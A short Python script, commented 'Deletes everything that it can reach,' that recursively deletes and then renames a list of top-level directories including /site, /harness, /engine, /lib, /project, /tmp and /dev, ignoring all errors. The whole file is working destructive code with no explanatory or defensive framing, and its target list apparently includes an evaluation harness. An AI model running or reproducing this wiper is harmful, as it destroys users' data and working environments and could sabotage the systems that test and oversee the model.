# Deletes everything that it can reach.
import os
import shutil

for folder in ("/site", "/harness", "/engine", "/lib", "/project", "/scratch", "/tmp", "/dev"):
    shutil.rmtree(folder, ignore_errors=True)
    try:
        os.rename(folder, folder + "-gone")
    except OSError:
        pass
